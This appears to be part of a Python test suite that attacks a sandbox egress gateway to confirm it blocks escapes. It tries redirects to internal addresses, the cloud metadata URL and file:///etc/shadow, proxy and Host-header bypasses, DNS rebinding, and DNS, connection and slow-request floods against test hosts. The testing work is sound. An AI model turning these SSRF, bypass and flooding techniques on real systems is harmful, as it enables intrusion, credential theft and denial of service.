@attack(*[("http", to) for to in ("http://10.9.0.9/", "http://other.example/", "https://other.example/", "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/", "http://127.0.0.1:8080/", "http://[::1]:8080/", "http://private.example/", "http://example.test:8080/", "ftp://10.9.0.9/", "file:///etc/shadow")], ("https", "http://10.9.0.9/"), ("https", "https://other.example/"))
def redirect(scheme, to):
    return urllib.request.urlopen(f"{scheme}://example.test/redirect?to={to}", timeout=1.5, context=tls_context() if scheme == "https" else None).read()


@attack(*[(p, u) for p in ("http://10.9.0.9:8080", "http://127.0.0.1:80", "http://127.0.0.1:53", "socks5h://10.9.0.9:7000", "socks5h://127.0.0.1:80", "http://front.test:80", "socks5h://front.test:80", "socks4a://front.test:443") for u in ("http://hidden.test/", "https://hidden.test/")])
def proxies(proxy, url):
    p = subprocess.run(["curl", "-ks", "-m", "1.5", "--proxy-insecure", "-x", proxy, url], capture_output=True, timeout=3)
    return p.stdout


@attack(("--connect-to", "::front.test:", "https://hidden.test/"), ("--connect-to", "::front.test:", "http://hidden.test/"), ("--doh-url", "https://203.0.113.53/dns-query", "https://hidden.test/"), ("--interface", "lo", "http://203.0.113.11/"), ("-H", "Host: hidden.test", "http://front.test/"), ("--request-target", "http://hidden.test/", "http://front.test/"), ("--http2-prior-knowledge", "-HHost: hidden.test", "http://front.test/"), ("--abstract-unix-socket", "sandboxmcp-egresstest", "http://hidden.test/"))
def curl(*args):
    return subprocess.run(["curl", "-ks", "-m", "1.5", *args], capture_output=True, timeout=3).stdout


# --- names that lead elsewhere

BAD = "private private172 private192 metadata metadata6 alibaba cgnat loopback loopback127 loopback6 zero zero6 thisnet host host6 multicast reserved broadcast benchmark mapped compatible nat64 nat64local sixtofour teredo ula sitelocal linklocal6 multicast6 cname hostsfile mixed mixed2".split()


@attack(*[(n, p) for n in BAD for p in (80, 443)])
def leads_elsewhere(name, port):
    name += ".example"
    c = connect(name, port)
    if port == 443:
        return talk(tls_context().wrap_socket(c, server_hostname=name), get(name))
    return talk(c, get(name))


@attack()
def rebind():
    got = []
    for i in range(24):
        try:
            got.append(talk(connect("rebind.example", 80), get("rebind.example"), 0.5)[:12])
        except OSError as e:
            got.append(str(e).encode())
    return repr(got).encode()


@attack()
def kept_address():
    """An address that was given for one name, used with another's request."""
    a = socket.getaddrinfo("front.test", 80)[0][4][0]
    return talk(connect(a, 80), get("example.test").replace(b"example.test", b"hidden.test"))


# --- floods

@attack()
def many_names():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(10_000):
        try:
            s.sendto(question(f"n{i}.evil.test"), ("127.0.0.1", 53))
        except OSError:
            pass
    return b""


@attack()
def many_connections():
    for i in range(2000):
        c = socket.socket()
        c.settimeout(1)
        try:
            c.connect(("127.64.9.9", 80))
        except OSError:
            pass
        c.close()
    return b""


@attack()
def slow_many():
    """Requests that never end."""
    open_ones = []
    for i in range(150):
        c = connect(ALLOWED, 80)
        c.sendall(b"GET / HTTP/1.1\r\nHost: hidd")
        open_ones.append(c)
    return talk(open_ones[0], b"en.test\r\n\r\n", 0.3)


@attack()
def afterwards():
    """The gateway still does what it is for."""
    got = urllib.request.urlopen("http://example.test/echo", timeout=3).read() + urllib.request.urlopen("https://example.test/echo", timeout=3).read()
    return b"well" if got.count(b"example.test") == 2 else got


def run(name):
    start = time.time()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            got = attacks[name]()
            got = got if isinstance(got, bytes) else str(got).encode()
        except BaseException as e:
            got = f"{type(e).__name__}: {e}".encode()
        os.write(w, got[:1000])
        os._exit(0)
    os.close(w)
    late = threading.Timer(8, os.kill, (pid, signal.SIGKILL))
    late.start()
    got = b""
    while chunk := os.read(r, 4096):
        got += chunk
    os.waitpid(pid, 0)
    late.cancel()
    os.close(r)
    print(json.dumps({"name": name, "start": start, "end": time.time(), "saw": got.decode("latin-1")[:300], "reached": CANARY in got}), flush=True)


def main():
    wanted = sys.argv[1:]
    todo = [n for n in attacks if not wanted or any(n.startswith(w) for w in wanted)]
    if wanted == ["one of each"]:
        todo = list({n.split()[0]: n for n in reversed(attacks)}.values())[::-1]
    for name in todo:
        run(name)


main()
